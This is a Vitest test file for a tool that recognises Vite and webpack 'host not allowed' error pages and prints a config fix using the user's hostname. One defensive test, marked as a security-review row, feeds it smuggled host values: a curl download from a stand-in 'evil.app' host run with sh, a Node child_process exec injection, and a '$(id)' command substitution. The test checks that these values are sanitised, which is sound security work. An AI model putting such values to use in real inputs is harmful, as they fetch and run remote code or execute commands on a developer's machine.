import { describe, expect, it } from 'vitest';
import { kindOf } from '@/lib/detect';
import { explain } from '@/lib/kinds/host-guard/explain';
import { VITE_HOST_CODE, WEBPACK_HOST_CODE } from '@/lib/kinds/host-guard/kind';
import { classifyPage } from '@/lib/kinds/registry';
import { pageFailure } from '@/lib/page-check';

// What Vite 8.3 sends (vite/src/node/server/middlewares/hostCheck.ts), as a browser shows it.
const VITE_TEXT =
  'Blocked request. This host ("devbox.test") is not allowed.\nTo allow this host, add "devbox.test" to `server.allowedHosts` in vite.config.js.';

describe('host-guard', () => {
  it.each([
    [VITE_TEXT, VITE_HOST_CODE],
    ['Blocked request. This host ("x.lan") is not allowed.', VITE_HOST_CODE],
    ['Invalid Host header', WEBPACK_HOST_CODE],
    ['Invalid Host header\n', WEBPACK_HOST_CODE],
    // A page that quotes the message is not the refusal.
    ['Why do I get "Invalid Host header"?', null],
    ['My app. Blocked request. This host ("x") is not allowed.', null],
    ['', null],
  ])('page text %j means %s', (text, code) => {
    expect(classifyPage(text)).toBe(code);
  });

  it.each([
    [
      { url: 'http://devbox.test:5173/', text: VITE_TEXT },
      { url: 'http://devbox.test:5173/', code: VITE_HOST_CODE },
    ],
    [
      { url: 'http://devbox.test:5173/', text: `  \n${VITE_TEXT}` },
      { url: 'http://devbox.test:5173/', code: VITE_HOST_CODE },
    ],
    // What the page script answers is checked: anything else is nothing.
    [{ url: 42, text: VITE_TEXT }, null],
    [{ url: 'http://devbox.test:5173/' }, null],
    ['Invalid Host header', null],
    [null, null],
    [undefined, null],
  ])('the page answer %j is %j', (answer, expected) => {
    expect(pageFailure(answer)).toEqual(expected);
  });

  it.each([
    ['http://devbox.test:5173/', VITE_HOST_CODE, 'host-guard'],
    ['https://app.example.com/', WEBPACK_HOST_CODE, 'host-guard'],
    ['http://devbox.test:5173/', 'net::ERR_CONNECTION_REFUSED', null],
  ])('%s with %s is %s', (url, code, kind) => {
    expect(kindOf(new URL(url), code)).toBe(kind);
  });

  it("fills the user's own host into the config line of the server that refused it", () => {
    const input = { url: 'http://devbox.test:5173/a', host: 'devbox.test', port: 5173, scheme: 'http:' };
    expect(explain.checklist?.({ ...input, code: VITE_HOST_CODE })[0]).toEqual({
      key: 'kind.hostGuard.viteConfig',
      args: ['devbox.test'],
    });
    expect(explain.checklist?.({ ...input, code: WEBPACK_HOST_CODE })[0]).toEqual({
      key: 'kind.hostGuard.webpackConfig',
      args: ['devbox.test'],
    });
    expect(explain.summary({ ...input, host: '[fd00::1]', code: WEBPACK_HOST_CODE })).toEqual({
      key: 'kind.hostGuard.summaryWebpack',
      args: ['fd00::1'],
    });
    expect(explain.fix?.(input)?.url).toBe('http://localhost:5173/a');
  });

  // security-review row 3: the config and shell lines print only a DNS name or an IPv4 address.
  it.each([
    ['devbox.test', 'devbox.test'],
    ['devbox.test.', 'devbox.test'],
    ['192.168.1.20', '192.168.1.20'],
    ['a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app', { key: 'kind.hostGuard.anyHost' }],
    ["x'];require('child_process').exec('id');['.test", { key: 'kind.hostGuard.anyHost' }],
    ['$(id).test', { key: 'kind.hostGuard.anyHost' }],
    ['[fd00::1]', { key: 'kind.hostGuard.anyHost' }],
  ])('the host %j goes into the lines as %j', (host, printed) => {
    const input = { url: 'http://x:5173/', host, port: 5173, scheme: 'http:' };
    const vite = explain.checklist?.({ ...input, code: VITE_HOST_CODE }) ?? [];
    const webpack = explain.checklist?.({ ...input, code: WEBPACK_HOST_CODE }) ?? [];
    expect(vite.slice(0, 2)).toEqual([
      { key: 'kind.hostGuard.viteConfig', args: [printed] },
      { key: 'kind.hostGuard.viteEnv', args: [printed] },
    ]);
    expect(webpack[0]).toEqual({ key: 'kind.hostGuard.webpackConfig', args: [printed] });
  });
});
